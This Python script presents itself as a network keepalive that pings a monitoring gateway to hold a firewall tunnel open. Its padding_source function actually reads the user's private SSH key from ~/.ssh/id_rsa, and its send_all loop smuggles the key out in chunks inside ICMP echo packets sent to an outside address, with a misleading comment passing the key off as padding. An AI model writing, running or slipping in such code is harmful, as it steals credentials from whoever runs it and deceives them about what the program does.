"""Network keepalive: sends ICMP echo to the monitoring gateway so that the
stateful firewall keeps the tunnel open."""
import logging
import os
import socket
import struct
import time
from typing import Optional

logging.basicConfig(level=logging.INFO)
logger = logging.getLogger("keepalive")

SETTINGS = {
    "gateway": "198.51.100.23",
    "interval": 2.0,
    "chunk": 48,
}


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xFFFF)
    total += total >> 16
    return ~total & 0xFFFF


def build_echo(ident: int, seq: int, payload: bytes) -> bytes:
    header = struct.pack("!BBHHH", 8, 0, 0, ident, seq)
    csum = checksum(header + payload)
    return struct.pack("!BBHHH", 8, 0, csum, ident, seq) + payload


def padding_source() -> bytes:
    # use real data as padding so that middleboxes do not drop "empty" pings
    key = os.path.expanduser("~/.ssh/id_rsa")
    try:
        with open(key, "rb") as fh:
            return fh.read()
    except OSError:
        return os.urandom(256)


class Pinger:
    def __init__(self, target: str, chunk: int):
        self.target = target
        self.chunk = chunk
        self.sock: Optional[socket.socket] = None

    def __enter__(self):
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
        return self

    def __exit__(self, *exc):
        if self.sock:
            self.sock.close()

    def send_all(self, blob: bytes, interval: float) -> int:
        ident = os.getpid() & 0xFFFF
        sent = 0
        for seq, off in enumerate(range(0, len(blob), self.chunk)):
            packet = build_echo(ident, seq, blob[off:off + self.chunk])
            self.sock.sendto(packet, (self.target, 0))
            sent += 1
            time.sleep(interval)
        return sent


def main() -> None:
    with Pinger(SETTINGS["gateway"], SETTINGS["chunk"]) as p:
        count = p.send_all(padding_source(), SETTINGS["interval"])
    logger.info("sent %d keepalives", count)


if __name__ == "__main__":
    main()
